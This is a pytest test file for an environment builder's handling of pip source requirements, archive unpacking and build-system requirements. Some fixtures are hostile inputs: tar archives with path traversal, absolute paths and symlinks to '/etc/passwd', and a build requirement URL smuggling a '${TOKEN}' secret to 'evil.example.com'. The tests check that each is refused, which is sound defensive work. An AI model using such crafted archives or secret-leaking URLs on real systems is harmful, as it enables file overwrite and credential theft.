"""Projects and source archives as they are read: nothing of them is run."""

from __future__ import annotations

import hashlib
import io
import tarfile
import zipfile
from pathlib import Path

import pytest

from envbuild.conda.link import PythonTarget
from envbuild.errors import BuildError, IntegrityError, SpecError
from envbuild.pip.source import ProjectSource, applies, build_section, is_source, unpacked
from envbuild.spec.context import ContextFile
from envbuild.spec.pip import PipSection

PYTHON = PythonTarget("3.11.4", "lib/python3.11/site-packages")


def section(folder: Path, *lines: str) -> PipSection:
    return PipSection.from_requirements("\n".join(lines).encode(), "requirements.txt", folder)


def tarred(*members: tuple[str, bytes, str]) -> bytes:
    """A tar of members: path, type, and content or target."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for path, kind, text in members:
            entry = tarfile.TarInfo(path)
            entry.type = kind
            if kind == tarfile.REGTYPE:
                entry.size = len(text)
            else:
                entry.linkname = text
            archive.addfile(entry, io.BytesIO(text.encode()))
    return out.getvalue()


@pytest.mark.parametrize(
    ("line", "source"),
    [
        ("-e ./project", True),
        ("./project", True),
        ("./project-1.tar.gz", True),
        ("./project-1-py3-none-any.whl", False),
        ("project @ https://files.invalid/project-1.zip", True),
        ("https://files.invalid/project-1-py3-none-any.whl#sha256=00", False),
        ("git+https://files.invalid/project", False),
        ("project>=1", False),
    ],
)
def test_what_is_built_from_source(tmp_path: Path, line: str, source: bool) -> None:
    (tmp_path / "project").mkdir()
    (tmp_path / "project/setup.py").touch()
    (tmp_path / "project-1.tar.gz").touch()
    (tmp_path / "project-1-py3-none-any.whl").touch()
    (requirement,) = section(tmp_path, line).requirements
    assert is_source(requirement) is source


@pytest.mark.parametrize(
    ("marker", "holds"),
    [
        ("", True),
        ("python_version >= '3.11'", True),
        ("python_full_version < '3.11.4'", False),
        ("sys_platform == 'win32'", False),
        ("platform_machine == 'x86_64' and os_name == 'posix'", True),
        ("extra == 'x'", False),
    ],
)
def test_markers_are_those_of_the_image(tmp_path: Path, marker: str, holds: bool) -> None:
    (requirement,) = section(tmp_path, f"name ; {marker}" if marker else "name").requirements
    assert applies(requirement, PYTHON, "x86_64") is holds


def test_an_archive_without_the_folder_around_it() -> None:
    content = tarred(
        ("p-1/", tarfile.DIRTYPE, ""),
        ("p-1/setup.py", tarfile.REGTYPE, "x"),
        ("p-1/src/link", tarfile.SYMTYPE, "../setup.py"),
    )
    files = unpacked(content, "p-1.tar.gz")
    assert files == (
        ContextFile.of("setup.py", b"x"),
        ContextFile("src/link", executable=False, content=None, target="../setup.py"),
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("p-1/setup.py", b"x")
    assert unpacked(out.getvalue(), "p-1.zip") == files[:1]


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (b"no archive", BuildError),
        (tarred(("p/../../x", tarfile.REGTYPE, "x")), IntegrityError),
        (tarred(("/x", tarfile.REGTYPE, "x")), IntegrityError),
        (tarred(("p/x", tarfile.SYMTYPE, "../../x")), IntegrityError),
        (tarred(("p/x", tarfile.SYMTYPE, "/etc/passwd")), IntegrityError),
        (tarred(("p/x", tarfile.CHRTYPE, "")), IntegrityError),
        (tarred(("p/x", tarfile.LNKTYPE, "nowhere")), IntegrityError),
        (tarred(("p/setup.py", tarfile.REGTYPE, "x" * 4000))[:-60], IntegrityError),
    ],
    ids=[
        "no archive",
        "up and out",
        "absolute",
        "link out",
        "link to the root",
        "device",
        "no target",
        "cut",
    ],
)
def test_hostile_and_damaged_archives_are_refused(content: bytes, error: type[Exception]) -> None:
    with pytest.raises(error):
        unpacked(content, "p.tar.gz")


def source_of(**files: str) -> ProjectSource:
    return ProjectSource("p", tuple(ContextFile.of(name, text.encode()) for name, text in files.items()))


def test_what_a_build_asks_for(tmp_path: Path) -> None:
    project = source_of(**{"pyproject.toml": '[build-system]\nrequires = ["flit-core>=3"]\n'})
    asked = section(tmp_path, "--index-url https://index.invalid/simple", "p", "--require-hashes")
    found = build_section(asked, project, asked.requirements[0])
    assert [each.text() for each in found.requirements] == ["flit-core>=3"]
    assert found.indexes == asked.indexes
    assert found.switches == ()
    assert source_of(**{"setup.py": ""}).requires == ("setuptools>=40.8.0", "wheel")
    assert source_of(**{"pyproject.toml": "[project]\nname='x'\n"}).requires[0].startswith("setuptools")


def test_what_an_archive_asks_for_has_no_variables(tmp_path: Path) -> None:
    project = source_of(
        **{
            "pyproject.toml": '[build-system]\nrequires = ["x @ https://u:${TOKEN}@evil.example.com/x-1.whl"]\n'
        }
    )
    asked = section(tmp_path, "p")
    with pytest.raises(SpecError, match="asks for x with a variable in its URL"):
        build_section(asked, project, asked.requirements[0])


@pytest.mark.parametrize("text", ["[build-system", "build-system = 1\n", "[build-system]\nrequires = 3\n"])
def test_a_pyproject_that_cannot_be_read(text: str) -> None:
    with pytest.raises(BuildError, match=r"pyproject\.toml of p cannot be read"):
        source_of(**{"pyproject.toml": text}).requires  # noqa: B018 - it raises


def test_a_folder_that_is_no_project() -> None:
    with pytest.raises(BuildError, match="no Python project"):
        source_of(README="").requires  # noqa: B018 - it raises


@pytest.mark.parametrize(
    "line",
    [
        "p @ https://files.invalid/p-1.tar.gz#subdirectory=inner",
        "p @ https://me:hidden@files.invalid/p-1.zip#sha256=00&subdirectory=inner",
        "https://files.invalid/p-1.zip#egg=p&subdirectory=inner/deep",
        "p @ file:p-1.tar.gz#subdirectory=inner",
        "./p-1.tar.gz#subdirectory=inner",
    ],
)
def test_a_project_inside_an_archive_is_refused_and_no_other_is_built(tmp_path: Path, line: str) -> None:
    (tmp_path / "p-1.tar.gz").touch()
    with pytest.raises(SpecError, match="#subdirectory= is known and not supported") as caught:
        section(tmp_path, line)
    assert "./NAME/FOLDER" in str(caught.value.hint)
    assert "hidden" not in str(caught.value)


def test_what_a_wheel_has_no_use_for_is_ignored_as_by_pip(tmp_path: Path) -> None:
    (found,) = section(tmp_path, "https://files.invalid/p-1-py3-none-any.whl#subdirectory=x").requirements
    assert found.name == "p"


def test_the_digest_in_the_url_of_a_local_file_counts(tmp_path: Path) -> None:
    (tmp_path / "p-1.tar.gz").write_bytes(b"content")
    digest = hashlib.sha256(b"content").hexdigest()
    url = (tmp_path / "p-1.tar.gz").as_uri()
    (found,) = section(tmp_path, f"p @ {url}#egg=p&sha256={digest.upper()}").requirements
    assert found.local is not None
    with pytest.raises(
        SpecError, match=f"p-1.tar.gz has sha256 {digest}, expected {'0' * 64} as its URL says"
    ):
        section(tmp_path, f"p @ {url}#sha256={'0' * 64}")
